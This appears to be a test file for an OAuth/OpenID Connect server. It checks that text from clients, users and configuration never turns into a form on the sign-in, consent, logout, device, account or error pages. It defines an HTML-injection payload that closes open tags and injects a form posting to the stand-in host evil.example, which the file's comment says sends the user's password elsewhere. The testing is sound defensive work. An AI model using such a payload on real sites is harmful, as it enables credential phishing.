/**
 * A page of a pending request has no form-action: what is left between a user and a form of an attacker is that no text
 * becomes one. Each page is shown twice, with plain texts and with texts that contain forms, from clients, users
 * and the configuration; it must have the same elements with the same attributes.
 */
import t from 'tap'
import { accept, put, update } from '../../src/domain/decision.ts'
import type { Client, User } from '../../src/domain/model.ts'
import { secondFactorKind } from '../../src/users/rules/second-factor.ts'
import { ask, integrate, pageOf } from '../helpers/authorization.ts'
import { addDeviceClient, openConfirmation, startDevice, typeCode } from '../helpers/device.ts'
import { obtainTokens } from '../helpers/flow.ts'
import { alice, bob, startServer } from '../helpers/server.ts'
import { type Landing, type Page, UserAgent } from '../helpers/user-agent.ts'
import { parseElements } from './samples/read-page.ts'

/** Closes whatever it is put in, and opens a form that sends the user's password elsewhere. */
const form = `<form method=post action="https://evil.example/" id=x><button formaction='//evil.example'>`
const hostile = `x"'>--></code></title></textarea></button></form>${form}`
const kinds = { plain: { text: 'x plain', inUrl: 'plain' }, hostile: { text: hostile, inUrl: `">${form}` } }

/** Every page that shows a text from outside, each with the path of its form. */
async function pagesWith({ text, inUrl }: { readonly text: string; readonly inUrl: string }) {
  const library = 'https://library.example/api'
  const server = await startServer(t, {
    service: { name: text, contact: 'mailto:a@b.example' } as object,
    scopes: [
      { name: 'openid', description: text, group: text, access: 'identity' },
      { name: 'profile', description: text, group: text, access: 'identity' },
      { name: 'a:read', description: text, group: text, access: 'read' },
      { name: 'a:write', description: `${text}!`, group: text, access: 'write', sensitive: true },
    ],
    resources: [{ identifier: library, name: text, scopes: ['a:read'], tokenFormat: 'opaque' }] as never,
    accounts: {
      attributes: [{ name: 'room', label: text, type: 'string', visible: 'user', editable: 'user' }],
    },
  })
  const { store, keys } = server.deps
  const change = async (username: string, changed: Partial<User>): Promise<string> => {
    const { id = '' } = (await store.find('userByLogin', username)) ?? {}
    await store.transact('user', id, (user) =>
      accept(undefined, update('user', { ...(user as User), ...changed })),
    )
    return id
  }
  await change('alice', { claims: { name: text, nickname: text }, attributes: { room: text } })
  const bobId = await change('bob', { claims: { name: text } })
  const members: Partial<Client> = {
    name: text,
    localized: { 'client_name#de': text, 'client_uri#de': `https://de.example/${inUrl}` },
    redirectUris: [`http://127.0.0.1:51004/callback?${inUrl}`],
    postLogoutRedirectUris: [`http://127.0.0.1:51004/goodbye?${inUrl}`],
    clientUri: `https://app.example/${inUrl}`,
    policyUri: `https://app.example/policy?${inUrl}`,
    tosUri: `https://app.example/terms#${inUrl}`,
    logoUri: `https://app.example/logo.png?${inUrl}`,
    contacts: [text],
    softwareId: text,
  }
  const own = { ...members, applicationType: 'native' } as const
  const [redirectUri = ''] = own.redirectUris ?? []
  const asked = { redirectUri, id: '', method: 'none' }
  const from = async (request: Parameters<typeof integrate>[1], more: Partial<Client> = {}) => ({
    ...(await integrate(server, request, { ...own, ...more })),
    redirectUri: asked.redirectUri,
  })
  const portal = await from({})
  const closed = await from({ description: { allowed_groups: [`group_${'A'.repeat(22)}`] } })
  const registered = await from({ consent: 'always' }, { origin: 'registered' })
  const device = await addDeviceClient(server, { name: 'TV' })
  await store.transact('client', device.id, (client) =>
    accept(undefined, update('client', { ...(client as Client), ...own, redirectUris: [] })),
  )
  const fields = { scope: 'openid profile a:read a:write', state: text, login_hint: text, nonce: text }
  const german = { headers: { 'accept-language': 'de' } }
  const open = async (landing: Promise<Landing>) => pageOf(await landing)

  const pages: Record<string, Page> = {}
  const agent = new UserAgent(server.issuer, { 'user-agent': text.replaceAll(/[^\x20-\x7e]/g, '') })
  pages['sign-in'] = await open(ask(server, portal, fields, agent))
  pages['wrong password'] = await open(agent.submit(pages['sign-in'], { username: text, password: 'no' }))
  pages['a form of another page'] = await open(agent.submit(pages['sign-in'], { csrf: text }))
  pages['consent'] = await open(agent.submit(pages['sign-in'], alice))
  pages['consent in German'] = await open(agent.open(pages['consent'].url, german))
  pages['consent of a registered client'] = await open(ask(server, registered, fields, agent))
  pages['consent for a resource'] = await open(
    ask(server, portal, { ...fields, scope: 'a:read', resource: library }, agent),
  )
  pages['no access'] = await open(ask(server, closed, fields, agent))
  pages['account choice'] = await open(ask(server, portal, { ...fields, prompt: 'select_account' }, agent))
  const posted = { ...fields, response_mode: 'form_post' }
  pages['form_post of an error'] = await open(ask(server, portal, { ...posted, prompt: 'none' }))
  const consent = await open(ask(server, portal, posted, agent))
  pages['form_post'] = await open(agent.submit(consent, { decision: 'approve' }))
  for (const [name, query] of Object.entries({
    'unknown client': { client_id: text },
    'unknown redirect URI': { redirect_uri: `http://127.0.0.1:1/${inUrl}` },
    'unknown response mode': { response_mode: text },
  }))
    pages[name] = await open(ask(server, portal, { ...fields, ...query }, agent))
  pages['not a page'] = await open(
    agent.open(`${server.issuer}/${encodeURIComponent(text)}`, { headers: { accept: 'text/html' } }),
  )
  const unknownLink = new URLSearchParams({ code: text, interaction: text })
  pages['link'] = await open(agent.open(`${server.issuer}/link?${unknownLink}`))

  // Of another user, so that the page asks.
  const { id_token: hint } = await obtainTokens(server, portal, { user: bob })
  const goodbye = { post_logout_redirect_uri: own.postLogoutRedirectUris?.[0] ?? '', state: text }
  for (const [name, query] of Object.entries({
    'sign-out': { state: text, client_id: portal.id },
    'sign-out with an ID Token': { id_token_hint: hint, ...goodbye },
    'sign-out with a text for an ID Token': { id_token_hint: text, ...goodbye },
  }))
    pages[name] = await open(
      agent.open(`${server.issuer}/oauth/logout?${new URLSearchParams(query as Record<string, string>)}`),
    )

  const { user_code: userCode } = await startDevice(server, device, { scope: 'openid a:read' })
  pages['device'] = await typeCode(server, agent, text)
  pages['device consent'] = await openConfirmation(server, userCode, agent)
  const again = new UserAgent(server.issuer, { 'user-agent': 'Mozilla/5.0' })
  await again.submit(await open(ask(server, portal, fields, again)), alice)
  for (const section of ['', '/profile', '/sessions', '/activity', '/apps', '/security'])
    pages[`account${section}`] = await open(again.open(`${server.issuer}/account${section}`))

  await store.write(
    put(secondFactorKind, {
      userId: bobId,
      sealedSecret: keys.seal(Buffer.alloc(20), bobId, secondFactorKind),
      confirmedAt: server.now(),
      recoveryHashes: [],
      createdAt: server.now(),
    }),
  )
  const other = new UserAgent(server.issuer)
  pages['second factor'] = await open(other.submit(await open(ask(server, portal, fields, other)), bob))
  pages['wrong code'] = await open(other.submit(pages['second factor'], { code: text }))
  return { pages, texts: [redirectUri, text] }
}

/** What a browser makes of a page: its elements, with the names of their attributes and where its forms go. */
function shapeOf({ html }: Page, redirectUri: string): readonly string[] {
  // An element that isolates the writing direction is around unusual names only.
  const elements = parseElements(html).filter(({ name }) => name !== 'bdi')
  return elements.map(({ name, attributes }) => {
    const action = attributes.get('action')?.replace(redirectUri, 'the redirect URI') ?? ''
    return [name, ...attributes.keys(), action].join(' ')
  })
}

t.test(
  '[rfc9700-4.16-csp] [rfc6749-10.14-sanitise] no text of a client, a user or the configuration becomes a form on any page',
  async (t) => {
    const [plain, attacked] = [await pagesWith(kinds.plain), await pagesWith(kinds.hostile)]
    t.strictSame(Object.keys(attacked.pages), Object.keys(plain.pages))
    const reached = new Set<string>()
    for (const [name, page] of Object.entries(attacked.pages)) {
      const before = plain.pages[name]
      if (before === undefined) throw new Error(`${name} was not shown with plain texts`)
      t.equal(page.status, before.status, name)
      t.strictSame(shapeOf(page, attacked.texts[0] ?? ''), shapeOf(before, plain.texts[0] ?? ''), name)
      for (const { action } of page.forms)
        if (!page.headers.get('content-security-policy')?.includes('form-action')) reached.add(action)
      t.equal(page.html.includes('evil.example'), before.html.includes('x plain'), `${name} shows the texts`)
    }
    t.strictSame(
      [...reached].toSorted(),
      ['/consent', '/login', '/oauth/logout', attacked.texts[0]].toSorted(),
    )
  },
)
